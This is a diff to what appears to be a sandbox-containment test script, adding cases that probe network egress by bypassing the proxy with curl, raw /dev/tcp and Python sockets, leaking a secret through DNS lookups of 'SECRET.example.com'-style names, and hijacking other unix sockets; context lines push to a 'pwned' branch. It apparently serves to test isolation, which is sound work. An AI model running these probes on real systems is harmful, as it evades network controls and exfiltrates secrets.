@@ -170,6 +170,55 @@ try:
 except OSError as e:
     print(e)" >>/work/listing 2>&1
 	done_ ;;
+egress-curl) # URL [CURL OPTIONS...]: through the zone's proxy variables
+	url=$1
+	shift
+	curl -sS --max-time 10 "$@" "$url" >>/work/listing 2>&1
+	echo "curl rc=$?" >>/work/listing
+	done_ ;;
+egress-raw) # HOST PORT...: around the proxy: --noproxy, bash, python
+	h=$1
+	shift
+	for port in "$@"; do
+		curl -sS --max-time 5 --noproxy '*' "http://$h:$port/" \
+		    >>/work/listing 2>&1
+		(exec 3<>"/dev/tcp/$h/$port" && echo raw >&3) 2>>/work/listing
+		python3 -c "
+import socket
+try:
+    socket.create_connection(('$h', $port), timeout=2).send(b'py')
+except OSError as e:
+    print(e)" >>/work/listing 2>&1
+	done
+	done_ ;;
+egress-dns) # SECRET: lookups of a secret-bearing name, every way
+	getent hosts "$1.allowed.test" >>/work/listing 2>&1
+	getent ahosts "$1.example.com" >>/work/listing 2>&1
+	python3 -c "
+import socket
+for n in ('$1.allowed.test', '$1.example.com'):
+    try:
+        socket.getaddrinfo(n, 443)
+    except OSError as e:
+        print(e)" >>/work/listing 2>&1
+	curl -sS -p --max-time 10 "http://$1.allowed.test:443/" \
+	    >>/work/listing 2>&1
+	echo "curl rc=$?" >>/work/listing
+	done_ ;;
+egress-sock) # PATH...: unix sockets that are not this lease's own proxy
+	for s in "$@"; do
+		python3 -c "
+import socket, sys
+s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+try:
+    s.connect(sys.argv[1])
+    s.send(b'CONNECT allowed.test:80 HTTP/1.1\\r\\n\\r\\n')
+    print('connected', sys.argv[1], s.recv(64))
+except OSError as e:
+    print(sys.argv[1], e)" "$s" >>/work/listing 2>&1
+	done
+	ls -la /run /run/egress /run/corral >>/work/listing 2>&1
+	done_ ;;
 side-push) # HOSTREPO
 	git -C /work push "$1" HEAD:refs/heads/pwned >>/work/listing 2>&1
 	git -C /work push "file://$1" HEAD:refs/heads/pwned2 \
